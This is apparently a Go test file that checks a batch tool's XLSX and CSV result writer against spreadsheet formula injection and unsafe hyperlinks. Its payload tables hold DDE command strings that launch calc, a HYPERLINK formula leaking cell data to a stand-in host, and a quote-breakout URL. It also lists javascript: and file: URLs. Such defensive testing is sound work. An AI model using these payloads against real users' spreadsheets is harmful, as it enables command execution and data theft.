package results

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/qccbatch/qccbatch/batch/input"
	"github.com/qccbatch/qccbatch/batch/outcome"
	"github.com/xuri/excelize/v2"
)

// injection payloads: text that a spreadsheet would evaluate if it were
// written naively.
var injectionPayloads = []struct{ name, text string }{
	{"dde", "=cmd|' /C calc'!A0"},
	{"plus", "+1"},
	{"minus", "-1"},
	{"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
	{"tab", "\t=1+1"},
	{"cr", "\r=1+1"},
	{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
}

// injectionRows puts every payload into an input cell and into the message
// column, plus a real negative number in the number column.
func injectionRows() ([]string, []sampleRow) {
	header := []string{"payload", "amount"}
	var rows []sampleRow
	for i, p := range injectionPayloads {
		rows = append(rows, sampleRow{
			input.Row{Line: i + 2, Cells: []input.Cell{strCell(p.text), numCell("-1")}},
			Result{SearchKey: p.text, Outcome: outcome.Invalid, Message: p.text},
		})
	}
	return header, rows
}

func TestWriteResults_FormulaSafetyXLSX(t *testing.T) {
	header, rows := injectionRows()
	out := filepath.Join(t.TempDir(), "r.xlsx")
	if err := Write(out, header, sliceSource(rows), Summary{Input: "=1+1"}, "en"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	for i, p := range injectionPayloads {
		t.Run(p.name, func(t *testing.T) {
			r := i + 2
			for _, col := range []int{1, 3, 6} { // payload, search_key, message
				cell, _ := excelize.CoordinatesToCellName(col, r)
				typ, _ := f.GetCellType(resultsSheet, cell)
				formula, _ := f.GetCellFormula(resultsSheet, cell)
				got, _ := f.GetCellValue(resultsSheet, cell, excelize.Options{RawCellValue: true})
				if typ != excelize.CellTypeInlineString || formula != "" || got != p.text {
					t.Errorf("%s: type %v formula %q value %q, want an inline string %q", cell, cellTypeNames[typ], formula, got, p.text)
				}
				style, _ := f.GetCellStyle(resultsSheet, cell)
				if st, _ := f.GetStyle(style); st == nil || st.NumFmt != 49 {
					t.Errorf("%s: not formatted as Text (@), so editing it would make a formula", cell)
				}
			}
			cell, _ := excelize.CoordinatesToCellName(2, r)
			typ, _ := f.GetCellType(resultsSheet, cell)
			got, _ := f.GetCellValue(resultsSheet, cell, excelize.Options{RawCellValue: true})
			if typ != excelize.CellTypeUnset || got != "-1" { // no t attribute: a number
				t.Errorf("%s: type %v value %q, want the number -1", cell, cellTypeNames[typ], got)
			}
		})
	}
	typ, _ := f.GetCellType(summarySheet, "B1")
	if formula, _ := f.GetCellFormula(summarySheet, "B1"); formula != "" || typ == excelize.CellTypeFormula {
		t.Errorf("Summary input %q written as a formula", "=1+1")
	}
}

func TestWriteResults_FormulaSafetyCSV(t *testing.T) {
	header, rows := injectionRows()
	header[0] = "=header"
	out := filepath.Join(t.TempDir(), "r.csv")
	if err := Write(out, header, sliceSource(rows), Summary{}, "en"); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(data, []byte(utf8BOM)) {
		t.Fatal("no UTF-8 BOM")
	}
	if n := bytes.Count(data, []byte("\n")); n != bytes.Count(data, []byte("\r\n")) || n != len(rows)+1 {
		t.Errorf("%d line ends, %d of them CRLF; want %d CRLF", n, bytes.Count(data, []byte("\r\n")), len(rows)+1)
	}
	records, err := csv.NewReader(bytes.NewReader(data[len(utf8BOM):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if records[0][0] != "'=header" {
		t.Errorf("header %q, want it prefixed with '", records[0][0])
	}
	for i, p := range injectionPayloads {
		t.Run(p.name, func(t *testing.T) {
			rec := records[i+1]
			// csv.Writer with UseCRLF drops a lone CR inside a field; the
			// prefix is what makes the value safe.
			want := "'" + strings.ReplaceAll(p.text, "\r", "")
			if rec[0] != want || rec[2] != want || rec[5] != want {
				t.Errorf("payload cells %q, %q, %q; want %q", rec[0], rec[2], rec[5], want)
			}
			if rec[1] != "-1" {
				t.Errorf("number cell %q, want -1 unprefixed", rec[1])
			}
		})
	}
}

func TestHyperlinkFormula(t *testing.T) {
	tests := []struct {
		name, url string
		ok        bool
	}{
		{"https", "https://r.example.com/a.pdf?x=1&y=2", true},
		{"http upper", "HTTP://127.0.0.1:8080/r/1.pdf", true},
		{"quote breakout", `https://e.example/"),cmd|'/C calc'!A0,("`, true},
		{"javascript", "javascript:alert(1)", false},
		{"file", "file:///C:/Windows/System32/calc.exe", false},
		{"formula", "=HYPERLINK(\"http://x\")", false},
		{"newline", "https://e.example/a\nb", false},
		{"too long", "https://e.example/" + strings.Repeat("a", 250), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			formula, ok := hyperlinkFormula(tt.url)
			if ok != tt.ok {
				t.Fatalf("hyperlinkFormula(%q) ok = %v, want %v", tt.url, ok, tt.ok)
			}
			if !ok {
				return
			}
			// Evaluate the formula: it must yield exactly the URL, so the
			// URL cannot have escaped its string literal.
			f := excelize.NewFile()
			defer func() { _ = f.Close() }()
			if err := f.SetCellFormula("Sheet1", "A1", formula); err != nil {
				t.Fatal(err)
			}
			got, err := f.CalcCellValue("Sheet1", "A1")
			if err != nil || got != tt.url {
				t.Errorf("%s evaluates to %q (%v), want %q", formula, got, err, tt.url)
			}
		})
	}
}

func TestWriteResults_UnsafeURLIsPlainText(t *testing.T) {
	rows := []sampleRow{{input.Row{Line: 2}, Result{Outcome: outcome.Ready, ReportURL: "javascript:alert(1)"}}}
	out := filepath.Join(t.TempDir(), "r.xlsx")
	if err := Write(out, nil, sliceSource(rows), Summary{}, "en"); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	cell, _ := excelize.CoordinatesToCellName(colReportURL+1, 2)
	typ, _ := f.GetCellType(resultsSheet, cell)
	if got, _ := f.GetCellValue(resultsSheet, cell); typ != excelize.CellTypeInlineString || got != "javascript:alert(1)" {
		t.Errorf("%s: type %v value %q, want plain text", cell, cellTypeNames[typ], got)
	}
}
